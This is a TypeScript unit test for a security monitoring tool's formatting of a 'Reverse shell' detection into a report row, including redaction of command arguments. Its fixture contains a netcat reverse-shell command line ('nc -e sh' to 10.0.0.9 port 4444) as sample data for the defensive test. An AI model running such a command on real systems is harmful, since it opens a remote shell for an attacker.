import assert from "node:assert/strict";
import { test } from "node:test";
import { emptySubject } from "../../../core/process/subject.ts";
import type { Detection } from "../../../core/detect/contract.ts";
import { defaultSight } from "../visibility.ts";
import { securityRowOf } from "./security-row.ts";

const detection: Detection = {
  timeMs: Date.parse("2026-11-26T10:00:00.500Z"),
  rule: "Reverse shell",
  file: "builtin:sequences",
  format: "garrison",
  kind: "sequence",
  source: "syscall",
  priority: "critical",
  severity: "critical",
  title: "Reverse shell",
  tags: ["container"],
  techniques: ["T1059.004"],
  output: "a shell (command=nc -e sh 10.0.0.9 parent=sh)",
  outputFields: [
    ["proc.cmdline", "nc -e sh 10.0.0.9"],
    ["proc.pname", "sh"],
    ["proc.args", "<NA>"],
  ],
  evidence: [
    {
      timeMs: Date.parse("2026-11-26T10:00:00.100Z"),
      kind: "1 connects: connect",
      text: "10.0.0.9:4444",
      process: { pid: 7, startMs: 1 },
    },
    {
      timeMs: Date.parse("2026-11-26T10:00:00.500Z"),
      kind: "2 shell: execve",
      text: "nc -e sh 10.0.0.9",
      process: { pid: 7, startMs: 1 },
    },
  ],
  process: { pid: 7, startMs: 1 },
  comm: "nc",
  executable: "/usr/bin/nc",
  ancestors: ["sh", "web", "3", "4", "5", "6", "7", "8", "9"],
  subject: emptySubject,
  cgroupId: 1,
  tuple: undefined,
  count: 2,
  suppressedBefore: 3,
};

const context = {
  processId: "7.1.abc",
  subject: { ...emptySubject, namespace: "shop", workload: "web", workloadKind: "Deployment" as const },
  sight: defaultSight,
  fidelity: "kernel" as const,
};

test("a detection as a row: evidence with its times in order, fields by name, what was kept back counted", () => {
  const row = securityRowOf(detection, context);
  assert.deepEqual(row.evidence, [
    "2026-11-26T10:00:00.100Z 1 connects: connect: 10.0.0.9:4444",
    "2026-11-26T10:00:00.500Z 2 shell: execve: nc -e sh 10.0.0.9",
  ]);
  assert.deepEqual(row.outputFields, ["proc.cmdline=nc -e sh 10.0.0.9", "proc.pname=sh", "proc.args=<NA>"]);
  assert.deepEqual(
    [row.source, row.action, row.count, row.processId, row.workload, row.fidelity, row.ancestors.length],
    ["garrison", "detected", 5, "7.1.abc", "web", "kernel", 8],
  );
});

test("where arguments are not kept, they are in none of its texts", () => {
  const row = securityRowOf(detection, { ...context, sight: { ...defaultSight, arguments: false } });
  assert.ok(!JSON.stringify(row).includes("-e sh"), JSON.stringify(row));
  assert.equal(row.outputFields[0], "proc.cmdline=‹arguments not kept›");
  assert.equal(row.message, "a shell (command=‹arguments not kept› parent=sh)");
});
